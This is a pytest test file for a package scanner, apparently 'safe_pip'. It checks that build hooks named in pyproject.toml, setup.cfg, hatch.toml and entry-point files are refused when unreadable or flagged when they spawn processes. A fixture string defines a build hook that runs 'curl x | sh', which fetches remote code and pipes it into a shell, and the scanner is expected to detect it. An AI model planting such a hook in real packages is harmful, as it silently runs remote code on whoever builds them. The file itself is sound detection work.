"""What a build runs because a file of settings names it is Python that can be read."""

from __future__ import annotations

import sys
import zipfile
from pathlib import Path

import pytest

from safe_pip.archive import DEFAULT_LIMITS
from safe_pip.artifact import Artifact, OriginKind
from safe_pip.errors import UnscannableError
from safe_pip.evidence import Surface
from safe_pip.extractors import observe
from safe_pip.inspection.opening import open_artifact
from tests.builders import Content, write_sdist, write_tree
from tests.sources import distribution_of

BYTE_CODE = b"\xa7\r\r\n" + bytes(12)
HATCH = "[tool.hatch.build.hooks.custom]\npath = 'hooks/a.{}'\n"


def refusal(path: Path, origin: OriginKind = OriginKind.INDEX) -> str | None:
    try:
        with open_artifact(Artifact(path=path, origin=origin), DEFAULT_LIMITS):
            return None
    except UnscannableError as error:
        return error.reason


@pytest.mark.parametrize(
    ("settings", "name", "is_refused"),
    [
        ("[tool.poetry.build]\nscript = 'notes.txt'\n", "notes.txt", True),
        ("[tool.poetry]\nbuild = './notes'\n", "notes", True),
        ('[tool."p\\u006fetry"]\nbuild = "notes"\n', "notes", True),
        ("[tool.poetry.build]\nscript = 'build.py'\n", "build.py", False),
        (HATCH.format("pyc"), "hooks/a.pyc", True),
        (HATCH.format("so"), "hooks/a.so", True),
        (HATCH.format("py"), "hooks/a.py", False),
        ("[tool.pdm.version]\nsource = 'call'\ngetter = 'a:b'\n", "a.txt", False),
        ("[tool.pdm.build]\ncustom-hook = 'Hook.PYC'\n", "hook.pyc", True),
    ],
)
def test_script_of_a_build(tmp_path: Path, settings: str, name: str, is_refused: bool) -> None:
    files: dict[str, Content] = {"pyproject.toml": settings, name: "x = 1\n"}
    reason = "build-script-unread" if is_refused else None
    assert refusal(write_sdist(tmp_path, "demo", files=files)) == reason
    # Some file systems make no difference between upper and lower case.
    files["PyProject.TOML"] = files.pop("pyproject.toml")
    assert refusal(write_sdist(tmp_path, "demo", files=files)) == reason


@pytest.mark.parametrize("name", ["build.py", ".", "./x/../build.py", "data\\\\build.py"])
@pytest.mark.parametrize("main", ["__main__.pyc", "__main__.py"])
def test_script_of_a_build_that_is_a_folder(tmp_path: Path, name: str, main: str) -> None:
    """Python runs the __main__ in it."""
    folder = {".": "", "data\\\\build.py": "data/build.py/"}.get(name, "build.py/")
    files: dict[str, Content] = {
        "pyproject.toml": f'[tool.poetry.build]\nscript = "{name}"\n',
        f"{folder}{main}": BYTE_CODE,
    }
    assert refusal(write_sdist(tmp_path, "demo", files=files)) == "build-script-unread"


SETTINGS = ["hatch.toml", "Hatch.toml"]


@pytest.mark.parametrize("name", SETTINGS)
@pytest.mark.parametrize("settings", ["[build.hooks.custom]\npath = {\n", "#" + "x" * (1 << 20)])
def test_settings_that_cannot_be_read(tmp_path: Path, settings: str, name: str) -> None:
    reason = refusal(write_sdist(tmp_path, "demo", files={name: settings}))
    assert reason == "build-settings-unread"


@pytest.mark.skipif(
    not (3, 11) <= sys.version_info < (3, 15), reason="this Python's parser reads TOML 1.1"
)
@pytest.mark.parametrize("name", SETTINGS)
def test_settings_that_a_newer_parser_reads(tmp_path: Path, name: str) -> None:
    files: dict[str, Content] = {name: '[tool."p\\x6fetry"]\nbuild = "notes"\n', "notes": "x = 1\n"}
    assert refusal(write_sdist(tmp_path, "demo", files=files)) == "build-settings-unread"


HOOK = "import os\nclass Hook:\n    def initialize(self):\n        os.system('curl x | sh')\n"


@pytest.mark.parametrize(
    ("settings", "name", "source"),
    [
        ("[tool.hatch.build.hooks.custom]\n", "hatch_build.py", HOOK),
        ("[tool.hatch.metadata.hooks.custom]\npath = 'tools/a.py'\n", "tools/a.py", HOOK),
        ("[tool.hatch.build.targets.wheel.hooks.custom]\npath = './b.py'\n", "b.py", HOOK),
        ("[tool.hatch.version]\nsource = 'code'\npath = 'docs/v.py'\n", "docs/v.py", HOOK),
        ("[tool.poetry.build]\nscript = 'scripts/b.py'\n", "scripts/b.py", HOOK),
        ("[tool.poetry]\nbuild = 'b.py'\n", "b.py", HOOK),
        ("[build-system]\nbuild-backend = 'pdm.backend'\n", "pdm_build.py", HOOK),
        ("[tool.pdm.build]\ncustom-hook = 'x/h.py'\n", "x/h.py", HOOK),
        (
            "[tool.setuptools.cmdclass]\nsdist = 'x.h.Hook'\n",
            "x/h.py",
            HOOK.replace("ize", "ize_options"),
        ),
    ],
)
def test_script_of_a_build_runs_unasked(settings: str, name: str, source: str) -> None:
    found = observe(distribution_of({"pyproject.toml": settings, name: source}))
    surfaces = {e.surface for e in found if e.feature == "proc_spawn_unasked"}
    assert surfaces == {Surface.BUILD_BACKEND}


COMMAND = """\
import subprocess
class Command:
    def {}(self, *rest):
        subprocess.run(["canary"])
"""
PLUG_IN = "import subprocess\ndef go(dist):\n    subprocess.run(['canary'])\n"


@pytest.mark.parametrize(
    ("settings", "text", "name", "source"),
    [
        ("setup.cfg", "[options]\ncmdclass =\n  egg_info = x.h.Command\n", "x/h.py",
         COMMAND.format("finalize_options")),
        ("setup.cfg", "[options]\ncmdclass = egg_info=h.Command, install=h.Other\n", "src/h.py",
         COMMAND.format("run")),
        ("setup.cfg", "[global]\ncommand-packages = x\n", "x/build_scripts.py",
         COMMAND.format("run")),
        ("setup.cfg", "[options.entry_points]\ndistutils.commands =\n  a = x.h:Command\n",
         "x/h.py", COMMAND.format("__init__")),
        ("pyproject.toml",
         '[project.entry-points."setuptools.finalize_distribution_options"]\na = "x.h:go"\n',
         "x/h.py", PLUG_IN),
        ("demo.egg-info/entry_points.txt", "[egg_info.writers]\na.txt = h:go\n", "h.py", PLUG_IN),
        ("x-1.dist-info/entry_points.txt", "[ distutils.setup_keywords ]\na=h:go [b]\n", "h.py",
         PLUG_IN),
    ],
)  # fmt: skip
def test_what_setuptools_loads_of_a_source_runs_unasked(
    settings: str, text: str, name: str, source: str
) -> None:
    found = observe(distribution_of({settings: text, name: source}))
    surfaces = {e.surface for e in found if e.feature == "proc_spawn_unasked"}
    assert surfaces == {Surface.BUILD_BACKEND}


@pytest.mark.parametrize(
    ("settings", "text"),
    [
        ("setup.cfg", "[options.entry_points]\nconsole_scripts =\n  a = h:go\n"),
        ("setup.cfg", "[options\ncmdclass = a=h.go\n"),
        ("demo.egg-info/entry_points.txt", "[console_scripts]\na = h:go\n"),
        ("pyproject.toml", '[project.entry-points.pytest11]\na = "h:go"\n'),
    ],
)
def test_what_setuptools_does_not_load_waits_for_a_call(settings: str, text: str) -> None:
    found = observe(distribution_of({settings: text, "h.py": PLUG_IN}))
    assert "proc_spawn_unasked" not in {e.feature for e in found}


def test_settings_of_hatch_in_a_file_of_their_own() -> None:
    files = {"hatch.toml": "[build.hooks.custom]\npath = 'h.py'\n", "h.py": HOOK}
    found = observe(distribution_of(files))
    assert "proc_spawn_unasked" in {one.feature for one in found}


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("setup.cfg", "[metadata]\nversion = attr: deep.hidden.version\n"),
        ("pyproject.toml", '[tool.setuptools.dynamic]\nversion = {attr = "deep.hidden.version"}\n'),
    ],
)
def test_compiled_module_that_setuptools_imports(tmp_path: Path, name: str, text: str) -> None:
    files: dict[str, Content] = {name: text, "deep/hidden.pyc": BYTE_CODE}
    assert refusal(write_sdist(tmp_path, "demo", files=files)) == "module-compiled"


@pytest.mark.parametrize("folder", [".hg", ".svn/deep", ".git"])
def test_archive_in_a_folder_of_version_control(tmp_path: Path, folder: str) -> None:
    """The back end that a build would load from there is refused, and others are read."""
    archive = f"{folder}/store.bin"
    backend = f'[build-system]\nrequires = []\nbuild-backend = "a"\nbackend-path = ["{archive}"]\n'
    tree = write_tree(tmp_path / "tree", {"pyproject.toml": backend, archive: ""})
    with zipfile.ZipFile(tree / archive, "w") as zipped:
        zipped.writestr("a.py", "x = 1\n")
    assert refusal(tree, OriginKind.VCS) == "backend-in-archive"
    reason = "backend-unread" if folder == ".git" else "backend-in-archive"
    assert refusal(tree, OriginKind.DIRECTORY) == reason
    (tree / "pyproject.toml").unlink()
    for origin in (OriginKind.VCS, OriginKind.DIRECTORY):
        with open_artifact(Artifact(path=tree, origin=origin), DEFAULT_LIMITS) as found:
            is_unread = folder == ".git" and origin is OriginKind.DIRECTORY
            assert (f"{archive}/a.py" in found.by_path) is not is_unread
